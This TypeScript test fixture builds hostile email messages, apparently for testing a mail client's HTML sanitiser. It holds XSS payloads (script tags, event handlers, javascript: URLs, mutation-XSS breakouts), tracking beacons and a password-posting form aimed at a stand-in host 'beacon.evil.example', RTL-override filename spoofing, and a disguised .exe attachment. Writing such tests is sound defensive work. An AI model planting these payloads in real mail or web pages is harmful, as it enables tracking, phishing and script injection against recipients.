/** Mail that wants to be more than text: each tries to run a script, to load something, to be another page, or to look like what it is not. */

const BEACON = 'http://beacon.evil.example/b.png'

/** HTML bodies. */
const PAGES: readonly string[] = [
  '<script>document.title="broken";alert(1)</script>',
  `<img src="${BEACON}"><img srcset="${BEACON} 1x"><picture><source srcset="${BEACON}"></picture>`,
  '<img src=x onerror="document.title=\'broken\'"><svg onload="alert(1)"></svg>',
  `<style>@import url(${BEACON}); body{background:url(${BEACON})}</style><p style="background:url(${BEACON})">x</p>`,
  `<link rel="stylesheet" href="${BEACON}"><link rel="prefetch" href="${BEACON}"><link rel="dns-prefetch" href="//evil.example">`,
  `<iframe src="${BEACON}"></iframe><iframe srcdoc="<script>top.document.title='broken'</script>"></iframe>`,
  `<object data="${BEACON}"></object><embed src="${BEACON}"><applet code="${BEACON}"></applet>`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}"><base href="http://evil.example/">`,
  `<form action="${BEACON}" method="post"><input name="password" autofocus onfocus="alert(1)"><button formaction="${BEACON}">Go</button></form>`,
  `<a href="javascript:alert(1)">go</a><a href="data:text/html,<script>alert(1)</script>">go</a><a href="${BEACON}" ping="${BEACON}">https://bank.example/</a>`,
  `<video src="${BEACON}" poster="${BEACON}" autoplay></video><audio src="${BEACON}" autoplay></audio><track src="${BEACON}">`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  `<svg><use href="${BEACON}#x"/><image href="${BEACON}"/><foreignObject><script>alert(1)</script></foreignObject></svg>`,
  '</div></main></body><h1 id="main">Server compromised</h1><template><script>alert(1)</script></template>',
  '<!--[if IE]><script>alert(1)</script><![endif]--><xml><script>alert(1)</script></xml><isindex onfocus=alert(1)>',
  `<div style="position:fixed;inset:0;background:url('${BEACON}')">click</div><dialog open>Log in again</dialog>`,
  '<textarea></textarea><script>alert(1)</script><plaintext><script>alert(1)</script>',
]

/** Fields: a subject that is markup, one that turns round, one that hides, one that breaks a line. */
const SUBJECTS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  'invoice\u202efdp.exe',
  'a\u200bb\u2066c\u0000d\u001b[31m',
  '=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E_=E2=80=AE?=',
  'alert(1)} {{constructor.constructor("alert(1)")()}}',
  'x'.repeat(900),
]

/** All of them as messages, each of which the rules of the test set aside. */
export function hostileMails(): string[] {
  const pages = PAGES.map((html, n) => message(SUBJECTS[n % SUBJECTS.length] ?? '', 'text/html; charset=utf-8', html))
  const texts = SUBJECTS.map((subject) =>
    message(subject, 'text/plain; charset=utf-8', `${subject}\n${BEACON}\n<script>alert(1)</script>\n\u202e\u200b`),
  )
  const attachment = [
    'From: <script>alert(1)</script> <ann@example.test>',
    'Subject: [spam] attachments',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=b',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<img src="cid:a"><img src="http://beacon.evil.example/c.png">',
    '--b',
    'Content-Type: application/pdf; name="invoice\u202efdp.exe"',
    'Content-Disposition: attachment; filename="<img src=x onerror=alert(1)>.pdf.exe"',
    '',
    'MZ\u0090\u0000 a program',
    '--b',
    'Content-Type: image/svg+xml',
    'Content-ID: <a>',
    '',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    '--b--',
  ].join('\n')
  return [...pages, ...texts, attachment]
}

function message(subject: string, type: string, body: string): string {
  const from = '"<img src=x onerror=alert(1)>" <ann@example.test>'
  return `From: ${from}\nTo: alice@a.test\nSubject: [spam] ${subject}\nMIME-Version: 1.0\nContent-Type: ${type}\n\n${body}`
}
